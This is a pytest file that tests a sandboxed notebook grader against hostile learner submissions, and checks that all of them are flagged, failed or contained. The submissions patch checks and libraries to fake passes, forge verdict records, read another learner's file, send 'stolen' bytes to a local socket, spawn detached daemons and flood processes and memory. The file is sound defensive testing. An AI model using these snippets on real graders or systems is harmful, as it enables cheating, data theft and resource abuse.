"""A class with learners who try things: every hostile submission is contained and flagged or failed, every honest
one gets its right verdict, and nothing outside the submissions' scratch folders changes.

The lab is Lab 02 cut to its first exercise (set-up, ``storage_bytes``, its check: a few seconds per kernel), shipped
from a folder of the test's own (``--labs``), so one class of fifteen runs in about a minute on two cores. Each
hostile notebook does one thing from the list that issue 36 measured against the grader (and a few more); the
table at the bottom of each test says what must have happened. The whole Lab 02 with honest answers is graded in
tests/test_grade.py.
"""
from __future__ import annotations

import csv
import os
import resource
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from test_labs_wrong_answers import WRONG

ROOT = Path(__file__).resolve().parents[1]
LAB = ROOT / "labs" / "02_memory.ipynb"
SOLUTION = ROOT / "solutions" / "02_memory.ipynb"
MARK = f"hostile{os.getpid()}"                 # in every file name and process a hostile notebook makes
SLEEP = "6017"                                 # the daemon's `sleep` argument: how `ps` finds it afterwards
CELL_S = 30

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]
needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap not installed (make system-deps)")


def _cut_lab() -> nbformat.NotebookNode:
    """Lab 02 up to and including the check of its first exercise."""
    nb = nbformat.read(LAB, as_version=4)
    end = next(i for i, c in enumerate(nb.cells) if "check_storage_bytes(" in c.source)
    nb.cells = nb.cells[:end + 1]
    return nb


def _solution_source() -> str:
    sol = nbformat.read(SOLUTION, as_version=4)
    return next(c.source for c in sol.cells if c.cell_type == "code" and "def storage_bytes(" in c.source)


STUB = "def storage_bytes(tensors):\n    raise NotImplementedError('Exercise not done yet: count storages')\n"


def _submission(answer: str, first_cell_extra: str = "") -> nbformat.NotebookNode:
    nb = _cut_lab()
    (cell,) = [c for c in nb.cells if c.cell_type == "code" and "def storage_bytes(" in c.source]
    cell.source = answer
    if first_cell_extra:
        setup = next(c for c in nb.cells if c.cell_type == "code")
        setup.source = first_cell_extra + "\n" + setup.source
    return nb


def _hostile(class_dir: Path, port: int) -> dict[str, str]:
    """learner -> the answer cell each hostile learner hands in."""
    victim = class_dir / "honest_solved" / LAB.name
    return {
        # appends to the check's own file, found through lab02.__file__
        "lib_write": "from course_lib.checks import lab02\ntry:\n    with open(lab02.__file__, 'a') as f:\n"
                     "        f.write('\\n# edited\\n')\n    print('WROTE THE LIBRARY')\nexcept OSError as e:\n"
                     "    print('refused:', type(e).__name__)\n" + STUB,
        # replaces the check in memory, before its cell calls it
        "patch_check": "from course_lib.checks import lab02\nlab02.check_storage_bytes = lambda fn: "
                       "print('✅ storage_bytes: all right') or True\n" + STUB,
        # the same, through setattr with a name built at run time (no static rule sees it)
        "patch_hidden": f"import importlib\nm = importlib.import_module('course_lib.checks.' + 'lab0' + '2')\n"
                        f"setattr(m, 'check_' + 'storage_bytes', lambda fn: print('✅ storage_bytes: ok') or True)\n" + STUB,
        # enters the check's own context by hand: a ✅ with no check behind it
        "forge_context": "from course_lib.checks.core import check as _c\nwith _c('storage_bytes'):\n    pass\n" + STUB,
        # replaces torch.allclose, then hands in a wrong answer
        "patch_torch": "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
                       "def storage_bytes(tensors):\n    return sum(t.numel() * t.element_size() for t in tensors if t is not None)\n",
        # tries to get out: another learner's answer, files outside its scratch copy, the network, a daemon
        "escape": STUB + f"import json, glob, os, socket, subprocess\ntry:\n    nb = json.load(open({str(victim)!r}))\n"
                  "    src = [''.join(c['source']) for c in nb['cells'] if 'def storage_bytes(' in ''.join(c['source'])][0]\n"
                  "    exec(src)\n    print('RAN HER ANSWER')\nexcept OSError as e:\n    print('not there:', type(e).__name__)\n"
                  f"for p in ['/tmp/{MARK}-tmp', '/var/tmp/{MARK}-var', {str(class_dir / (MARK + '-class'))!r},"
                  f" os.path.expanduser('~/../../{MARK}-up'), '{ROOT}/{MARK}-repo', {str(victim)!r}]:\n"
                  "    try:\n        open(p, 'a').write('x')\n    except OSError as e:\n        print(type(e).__name__)\n"
                  f"try:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
                  "    s.sendall(b'stolen')\n    print('CONNECTED')\nexcept OSError as e:\n    print('no connection:', type(e).__name__)\n"
                  f"subprocess.Popen(['setsid', 'env', '-i', 'sleep', '{SLEEP}'], start_new_session=True)\n"
                  f"subprocess.Popen(['bash', '-c', '(setsid sleep {SLEEP} &) ; exit 0'])\n",
        # uses too much: 200 MB of output, 30 GiB of memory, processes until it cannot start more
        "greedy": STUB + "try:\n    x = bytearray(30 << 30)\nexcept MemoryError:\n    print('MemoryError')\n"
                  "import subprocess\nprocs = []\ntry:\n    for _ in range(3000):\n"
                  "        procs.append(subprocess.Popen(['sleep', '60']))\nexcept OSError as e:\n"
                  "    print('stopped after', len(procs), type(e).__name__)\n"
                  "for p in procs:\n    p.kill()\n    p.wait()\n"
                  "print('x' * 100_000_000)\nfor _ in range(100):\n    print('y' * 1_000_000)\n",
        # writes a ✅ record straight to the grader's pipe through the guard's own function
        "guard_record": "import sys\ng = sys.modules['course_lib.apps.grading.guard']\n"
                        "g.record('check', name='storage_bytes', state='solved', text='✅ storage_bytes: forged')\n" + STUB,
        # turns the guard's final report off
        "guard_off": "import course_lib.apps.grading.guard as g\ng.finish = lambda nonce: None\n" + STUB,
    }


#: The attacks of issue 49 (verdicts decided where no submission's code runs): learner -> answer cell. None may be
#: solved; the verdict is the judge's, outside the box, from the plain data the check's run half wrote.
_NAIVE = "sum(t.numel() * t.element_size() for t in tensors if t is not None)"
JUDGED = {
    # a wrong number whose == always says yes
    "lying_int": "class Yes(int):\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n"
                 "    __hash__ = int.__hash__\n"
                 f"def storage_bytes(tensors):\n    return Yes({_NAIVE})\n",
    # the library's own solution handed in
    "reference": "from course_lib.measure.memory import storage_bytes as _ref\n"
                 "def storage_bytes(tensors):\n    return _ref(tensors)\n",
    # the expected value read from the check's frames
    "frame_peek": "import sys\ndef storage_bytes(tensors):\n    f = sys._getframe(1)\n    while f is not None:\n"
                  "        for k, v in f.f_locals.items():\n"
                  "            if k in ('expected', 'exp', 'want') and isinstance(v, int):\n                return v\n"
                  "            if isinstance(v, list) and v and isinstance(v[0], tuple) and len(v[0]) == 3:\n"
                  "                for what, ts, e in v:\n                    if ts is tensors: return e\n"
                  "        f = f.f_back\n"
                  f"    return {_NAIVE}\n",
    # a ✅ record written straight into the guard's pipe, found by scanning descriptors (no /proc)
    "fd_forge": "import os, stat, json\nfor fd in range(3, 256):\n    try:\n        if stat.S_ISFIFO(os.fstat(fd).st_mode):\n"
                "            os.write(fd, (json.dumps({'kind': 'check', 'name': 'storage_bytes', 'state': 'solved', "
                "'text': '✅ storage_bytes: forged'}) + '\\n').encode())\n    except OSError:\n        pass\n" + STUB,
    # the guard imported under a name built at run time, its record function called
    "guard_runtime": "import importlib\ng = importlib.import_module('course_lib.apps.' + 'grading.gu' + 'ard')\n"
                     "getattr(g, 're' + 'cord')('check', name='storage_bytes', state='solved', text='✅ storage_bytes: ok')\n"
                     + STUB,
    # the guard's fingerprint table cleared before its report, with a wrong answer
    "prints_cleared": "import sys\ng = sys.modules['course_lib.apps.grading.guard']\ng._state['prints'].clear()\n"
                      f"def storage_bytes(tensors):\n    return {_NAIVE}\n",
    # np.isnan and np.allclose replaced, with a wrong answer
    "numpy_patch": "import numpy as np\nnp.isnan = lambda *a, **k: np.zeros(np.shape(a[0]), bool)\n"
                   "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                   f"def storage_bytes(tensors):\n    return {_NAIVE}\n",
    # a forged outbox file, claiming a solved state the box cannot claim
    "outbox_forge": "import os, json\n" + STUB + "from course_lib.checks import plain as P, judge as J\n"
                    "_real = lab02.check_storage_bytes\n"
                    "def _after(fn):\n    r = _real(fn)\n"
                    "    J.outbox_file(os.environ[J.OUTBOX_VAR], '02', 'storage_bytes').write_bytes(P.dumps("
                    "{'raised': {'state': 'solved', 'text': '✅ storage_bytes: forged'}}))\n    return r\n"
                    "lab02.check_storage_bytes = _after\n",
}
#: Appended as a last cell: the check replaced, then the kernel ended before the guard's report can be asked for.
EXIT_LAST = ("exit_after_patch", "from course_lib.checks import lab02\n"
             "lab02.check_storage_bytes = lambda fn: print('✅ storage_bytes: fine') or True\n" + STUB,
             "import os\nos._exit(0)\n")


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    labs = base / "labs"
    labs.mkdir()
    nbformat.write(_cut_lab(), labs / LAB.name)
    cls = base / "class"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    accepted: list = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                accepted.append(conn.recv(64))
            except OSError:
                continue
    threading.Thread(target=serve, daemon=True).start()
    wrong = next(src for lab, name, *_, src in WRONG if (lab, name) == ("02", "storage_bytes"))
    notebooks = {"honest_solved": _submission(_solution_source()), "honest_wrong": _submission(wrong),
                 "honest_untouched": _cut_lab(),
                 "slow_start": _submission(_solution_source(), first_cell_extra=f"import time\ntime.sleep({CELL_S * 3})")}
    notebooks.update({k: _submission(v) for k, v in _hostile(cls, listener.getsockname()[1]).items()})
    notebooks.update({k: _submission(v) for k, v in JUDGED.items()})
    learner, answer, last = EXIT_LAST
    notebooks[learner] = _submission(answer)
    notebooks[learner].cells.append(nbformat.v4.new_code_cell(last))
    for learner, nb in notebooks.items():
        (cls / learner).mkdir(parents=True)
        nbformat.write(nb, cls / learner / LAB.name)
    before = {"victim": (cls / "honest_solved" / LAB.name).read_bytes(),
              "sleepers": _sleepers()}
    out = base / "out"
    start = time.monotonic()
    result = subprocess.run([sys.executable, "-m", "course_lib", "grade", str(cls), "--out", str(out), "--labs", str(labs),
                             "--jobs", "3", "--cell-timeout", str(CELL_S), "--timeout", "120", "--processes", "256"],
                            cwd=ROOT, capture_output=True, text=True, timeout=580, env={**os.environ, "PYTHONPATH": str(ROOT)})
    seconds = time.monotonic() - start
    peak_rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
    stop.set()
    rows = list(csv.DictReader(open(out / "grades.csv", encoding="utf-8")))
    yield {"result": result, "rows": rows, "out": out, "cls": cls, "before": before, "accepted": accepted,
           "seconds": seconds, "peak_rss": peak_rss}
    listener.close()


def _marked(folder: Path) -> list[Path]:
    """Files under ``folder`` holding MARK (what the hostile notebooks write). Not a checksum of the library: on a
    shared checkout the library may change for other reasons while the class is graded."""
    return [p for p in folder.rglob("*") if p.is_file() and p.suffix in (".py", ".pth", ".txt", "") and
            MARK.encode() in p.read_bytes()]


def _sleepers() -> list[int]:
    found = []
    for p in psutil.process_iter(["cmdline"]):
        cmd = p.info["cmdline"] or []
        if cmd[:1] == ["sleep"] and SLEEP in cmd or any(MARK in c for c in cmd):
            found.append(p.pid)
    return found


def _said(hc, learner) -> str:
    nb = nbformat.read(hc["out"] / "notebooks" / f"{learner}_{LAB.name}", as_version=4)
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def _row(rows, learner, kind="exercise", item="storage_bytes"):
    return next(r for r in rows if r["learner"] == learner and r["kind"] == kind and r["item"] == item)


def _flags(rows, learner) -> str:
    return " | ".join(r["detail"] for r in rows if r["learner"] == learner and r["kind"] == "flag")


@needs_bwrap
def test_honest_learners_get_their_verdicts(hostile_class):
    rows = hostile_class["rows"]
    assert hostile_class["result"].returncode == 0, hostile_class["result"].stderr[-2000:]
    assert _row(rows, "honest_solved")["verdict"] == "solved"
    assert (_row(rows, "honest_wrong")["verdict"], _row(rows, "honest_wrong")["mistake"]) == ("wrong", "views counted twice")
    assert _row(rows, "honest_untouched")["verdict"] == "not attempted"
    for learner in ("honest_solved", "honest_wrong", "honest_untouched"):
        assert _flags(rows, learner) == "", (learner, _flags(rows, learner))


@needs_bwrap
def test_a_first_cell_past_its_limit_is_reported_as_the_timeout(hostile_class):
    row = _row(hostile_class["rows"], "slow_start")
    assert row["verdict"] == "crashed" and "ran past the cell limit" in row["detail"], row
    assert "NameError" not in row["detail"]


@needs_bwrap
@pytest.mark.parametrize("learner, rule", [
    ("lib_write", "library files"), ("patch_check", "forged output"), ("patch_hidden", "library internals"),
    ("forge_context", "forged check"), ("patch_torch", "library internals"), ("guard_record", "the grader's modules"),
    ("guard_off", "guard disabled")])
def test_tampering_is_flagged_never_solved(hostile_class, learner, rule):
    rows = hostile_class["rows"]
    assert _row(rows, learner)["verdict"] != "solved"
    assert rule in _flags(rows, learner), _flags(rows, learner)


@needs_bwrap
def test_nothing_outside_the_scratch_folders_changed(hostile_class):
    hc = hostile_class
    assert _marked(ROOT / "course_lib") == []
    assert (hc["cls"] / "honest_solved" / LAB.name).read_bytes() == hc["before"]["victim"]
    leaked = [p for p in (Path("/tmp") / f"{MARK}-tmp", Path("/var/tmp") / f"{MARK}-var", hc["cls"] / f"{MARK}-class",
                          ROOT / f"{MARK}-repo", Path("/") / f"{MARK}-up") if p.exists()]
    assert leaked == []
    text = _said(hc, "escape")
    assert "not there: FileNotFoundError" in text and "RAN HER ANSWER" not in text
    assert _row(hc["rows"], "escape")["verdict"] == "not attempted"
    assert _row(hc["rows"], "lib_write")["verdict"] == "not attempted"


@needs_bwrap
def test_the_network_and_processes_are_contained(hostile_class):
    hc = hostile_class
    assert hc["accepted"] == []                                     # the socket case never connected
    assert "no connection:" in _said(hc, "escape") and "CONNECTED" not in _said(hc, "escape")
    assert _sleepers() == hc["before"]["sleepers"] == []            # the daemons died with their box
    said = _said(hc, "greedy")
    stopped = int(said.split("stopped after ")[1].split()[0])
    assert stopped < 256, said                                      # the pids cgroup (or RLIMIT_NPROC) held
    assert "MemoryError" in said


@needs_bwrap
def test_output_is_capped(hostile_class):
    hc = hostile_class
    path = hc["out"] / "notebooks" / f"greedy_{LAB.name}"
    assert path.stat().st_size < 2 << 20, path.stat().st_size       # 1 MiB per cell kept
    assert "the rest was dropped" in path.read_text()
    assert hc["peak_rss"] < 1.5 * 2**30, hc["peak_rss"]             # the grader's peak, its kernels included


def test_the_grader_refuses_without_bubblewrap_unless_told(tmp_path):
    cls = tmp_path / "class" / "ann"
    cls.mkdir(parents=True)
    nbformat.write(_cut_lab(), cls / LAB.name)
    labs = tmp_path / "labs"
    labs.mkdir()
    nbformat.write(_cut_lab(), labs / LAB.name)
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COURSE_LIB_BWRAP": "/nonexistent/bwrap"}
    cmd = [sys.executable, "-m", "course_lib", "grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
           "--labs", str(labs), "--cell-timeout", "60", "--timeout", "180"]
    refused = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=120, env=env)
    assert refused.returncode == 3 and not (tmp_path / "out").exists()
    (line,) = refused.stderr.strip().splitlines()
    assert "bubblewrap" in line and "--no-sandbox" in line
    graded = subprocess.run(cmd + ["--no-sandbox"], cwd=ROOT, capture_output=True, text=True, timeout=300, env=env)
    assert graded.returncode == 0, graded.stderr[-2000:]
    assert "--no-sandbox" in graded.stderr
    rows = list(csv.DictReader(open(tmp_path / "out" / "grades.csv", encoding="utf-8")))
    assert _row(rows, "ann")["verdict"] == "not attempted" and _flags(rows, "ann") == ""


@needs_bwrap
@pytest.mark.parametrize("learner", [*JUDGED, EXIT_LAST[0]])
def test_no_attack_on_the_verdict_solves_anything(hostile_class, learner):
    """Issue 49's attacks: the verdict is the judge's, outside the box; what the box prints or records decides
    nothing. A lying value and a patched NumPy are judged wrong by what they hold; the library's solution crashes
    (unavailable while graded) and is flagged."""
    rows = hostile_class["rows"]
    row = _row(rows, learner)
    assert row["verdict"] != "solved", row
    if learner in ("lying_int", "numpy_patch", "prints_cleared", "frame_peek"):
        assert (row["verdict"], row["mistake"]) == ("wrong", "views counted twice"), row
    if learner == "reference":
        assert row["verdict"] == "crashed" and "library's own solution" in row["detail"], row
        assert "reference use" in _flags(rows, learner), _flags(rows, learner)
    if learner in ("fd_forge", "guard_runtime", "outbox_forge", "exit_after_patch"):
        assert row["verdict"] in ("not attempted", "crashed"), row
